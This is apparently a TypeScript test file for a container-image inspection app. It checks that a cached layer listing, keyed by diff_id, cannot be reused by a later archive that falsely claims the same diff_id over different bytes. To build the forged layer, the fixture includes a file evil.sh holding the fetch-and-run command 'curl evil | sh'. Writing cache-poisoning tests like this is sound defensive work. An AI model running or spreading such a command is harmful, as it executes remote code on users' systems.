/**
 * Attacks on the library (IndexedDB) caches, in Node with the same Workspace the page runs: a
 * listing is kept by diff_id, so an archive whose config claims the diff_id of a layer listed
 * before, over other bytes, must not be shown that layer's files (nor its packages): what the
 * view shows of a layer comes from bytes hashed to its diff_id.
 */
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { Library } from '../../../src/app/library/library.svelte.ts';
import { ListingStore } from '../../../src/app/library/listing-store.ts';
import { ReportCache } from '../../../src/app/library/report-cache.ts';
import type { Tab } from '../../../src/app/tab.svelte.ts';
import { Workspace } from '../../../src/app/workspace.svelte.ts';
import { GZIP_LAYER } from '../../support/attacks.ts';
import { memoryListings } from '../../support/listing-backend.ts';
import { memoryStore } from '../../support/memory-store.ts';
import { blob, ociArchive } from '../../support/oci.ts';
import { sha256, writeTar } from '../../support/tar.ts';
import { threadVerify } from '../../support/thread-pool.ts';

async function until(done: () => boolean): Promise<void> {
  for (let i = 0; i < 500 && !done(); i++) await new Promise((r) => setTimeout(r, 10));
  expect(done()).toBe(true);
}

const good = writeTar([{ name: 'good.txt', data: 'good\n' }]);
const evil = writeTar([
  { name: 'good.txt', data: 'good\n' },
  { name: 'evil.sh', data: 'curl evil | sh\n' },
]);

/** An archive whose one layer holds `tar`, its config claiming good's diff_id. */
function claimingGood(ref: string, tar: Uint8Array, name: string): File {
  const bytes = ociArchive({
    ref,
    layer: { layer: blob(gzipSync(tar)), diffId: sha256(good), mediaType: GZIP_LAYER },
  });
  return new File([new Uint8Array(bytes)], name);
}

/** A workspace over `backend` (the library's listings, shared as IndexedDB is by page loads). */
function workspace(backend: ReturnType<typeof memoryListings>) {
  return new Workspace(
    new Library(new ReportCache(() => memoryStore())),
    threadVerify().verify,
    new ListingStore(() => backend),
  );
}

const manifestOf = (tab: Tab) => tab.report!.images[0]!.manifests[0]!;

describe('a kept listing and a layer that claims its diff_id', () => {
  it("is not shown as the layer's files once this run finds other bytes", async () => {
    const backend = memoryListings();
    const first = workspace(backend).openFile(claimingGood('victim:good', good, 'good.tar'));
    await until(() => first.verifier.state === 'done');
    expect(first.report!.verification.status).toBe('ok');
    await until(() => first.contents.of(manifestOf(first)).status === 'ready');
    await until(() => backend.map.has(`data:${sha256(good)}`));

    // A new page load: only the library links the two archives.
    const second = workspace(backend).openFile(claimingGood('victim:evil', evil, 'evil.tar'));
    await until(() => second.verifier.state === 'done');
    expect(second.report!.verification.status).toBe('failed');
    const m = manifestOf(second);
    expect(second.contents.of(m)).toMatchObject({
      status: 'unavailable',
      reason: 'undecodable',
      layer: 0,
      message: `layer 1 could not be listed: its content is ${sha256(evil)}, not this diff_id`,
    });
    expect(second.contents.packagesOf(m).status).toBe('unavailable');
    // The kept listing is still the good layer's alone, under its own diff_id.
    const keys = [...backend.map.keys()];
    expect(keys.filter((k) => !k.startsWith('part:')).sort()).toEqual([
      `data:${sha256(good)}`,
      `meta:${sha256(good)}`,
    ]);
    expect(keys.filter((k) => k.startsWith('part:') && !k.startsWith(`part:${sha256(good)}:`))).toEqual([]);
  });
});
